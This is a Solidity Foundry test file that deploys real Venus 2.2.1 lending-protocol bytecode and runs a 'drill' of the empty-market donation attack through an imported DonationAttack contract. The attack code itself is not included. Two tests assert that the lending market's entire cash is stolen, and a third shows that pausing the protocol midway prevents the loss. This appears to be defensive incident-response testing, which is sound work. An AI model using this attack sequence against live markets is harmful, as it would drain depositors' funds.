// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import {Base} from "./Base.sol";
import {DemoToken} from "../drills/targets/DemoToken.sol";
import {DonationAttack} from "../drills/attacks/DonationAttack.sol";

interface IController {
    function _become(address) external;
    function _setPendingImplementation(address) external returns (uint256);
    function _setAccessControl(address) external;
    function _setComptrollerLens(address) external;
    function _setPriceOracle(address) external;
    function _setCloseFactor(uint256) external returns (uint256);
    function _setLiquidationIncentive(uint256) external returns (uint256);
    function _supportMarket(address) external returns (uint256);
    function _setCollateralFactor(address, uint256) external returns (uint256);
    function _setMarketBorrowCaps(address[] calldata, uint256[] calldata) external;
    function _setMarketSupplyCaps(address[] calldata, uint256[] calldata) external;
    function _setProtocolPaused(bool) external returns (bool);
}

interface IVToken {
    function mint(uint256) external returns (uint256);
    function getCash() external view returns (uint256);
    function totalSupply() external view returns (uint256);
}

contract AllowAll {
    function isAllowedToCall(address, string calldata) external pure returns (bool) {
        return true;
    }
}

contract OneDollarOracle {
    function getUnderlyingPrice(address) external pure returns (uint256) {
        return 1e18;
    }
}

/// @notice D1 on the published Venus 2.2.1 bytecode: an empty collateral market beside one with a million to lend.
contract MarketTest is Base {
    string internal constant ART = "node_modules/@venusprotocol/venus-protocol/artifacts/contracts/";
    uint256 internal constant CASH = 1_000_000e18;
    uint256 internal constant DONATION = 2_700_000e18;
    IController internal controller;
    IVToken internal empty;
    IVToken internal full;
    DemoToken internal coll;
    DemoToken internal loan;
    DonationAttack internal attack;
    address internal rates;

    function deploy(string memory artifact, bytes memory args) internal returns (address made) {
        bytes memory code = abi.encodePacked(vm.getCode(string.concat(ART, artifact, ".json")), args);
        assembly ("memory-safe") {
            made := create(0, add(code, 0x20), mload(code))
        }
        yes(made != address(0), artifact);
    }

    function market(address token, string memory name) internal returns (IVToken v) {
        bytes memory args = abi.encode(token, controller, rates, uint256(1e18), name, name, uint8(8), address(this));
        v = IVToken(deploy("Tokens/VTokens/VBep20Immutable.sol/VBep20Immutable", args));
        eq(controller._supportMarket(address(v)), 0, "supportMarket");
    }

    function setUp() public {
        vm.warp(START);
        vm.roll(20_000_000);
        controller = IController(deploy("Comptroller/Unitroller.sol/Unitroller", ""));
        address implementation = deploy("Comptroller/Comptroller.sol/Comptroller", "");
        controller._setPendingImplementation(implementation);
        IController(implementation)._become(address(controller));
        controller._setAccessControl(address(new AllowAll()));
        controller._setComptrollerLens(deploy("Lens/ComptrollerLens.sol/ComptrollerLens", ""));
        controller._setPriceOracle(address(new OneDollarOracle()));
        controller._setCloseFactor(0.5e18);
        controller._setLiquidationIncentive(1.1e18);
        rates = deploy(
            "InterestRateModels/WhitePaperInterestRateModel.sol/WhitePaperInterestRateModel",
            abi.encode(uint256(0), uint256(0))
        );
        (coll, loan) = (new DemoToken("Collateral", "C", 18), new DemoToken("Loan", "L", 18));
        (empty, full) = (market(address(coll), "vC"), market(address(loan), "vL"));
        address[] memory both = new address[](2);
        uint256[] memory caps = new uint256[](2);
        (both[0], both[1], caps[0], caps[1]) = (address(empty), address(full), type(uint256).max, type(uint256).max);
        controller._setMarketSupplyCaps(both, caps);
        controller._setMarketBorrowCaps(both, caps);
        eq(controller._setCollateralFactor(address(empty), 0.75e18), 0, "collateral factor");
        loan.mint(address(this), CASH);
        loan.approve(address(full), CASH);
        eq(full.mint(CASH), 0, "supply");
        attack = new DonationAttack();
        coll.mint(address(attack), DONATION + attack.SEED());
    }

    function assertStolen() internal view {
        eq(loan.balanceOf(address(this)), CASH, "loan");
        eq(coll.balanceOf(address(this)), DONATION + attack.SEED() - 1, "all but one wei of the collateral");
        eq(full.getCash(), 0, "cash");
    }

    function test_drill_D1_atomic() public {
        attack.attack(address(controller), address(empty), address(full), DONATION);
        assertStolen();
    }

    function test_drill_D1_inTwoTransactions() public {
        attack.open(address(empty), DONATION);
        eq(empty.totalSupply(), 2, "two wei of market tokens");
        vm.roll(20_000_001);
        attack.cash(address(controller), address(empty), address(full));
        assertStolen();
    }

    function test_drill_D1_pauseBetweenTheTwoSavesEverything() public {
        attack.open(address(empty), DONATION);
        controller._setProtocolPaused(true);
        vm.expectRevert();
        attack.cash(address(controller), address(empty), address(full));
        eq(full.getCash(), CASH, "saved");
    }
}
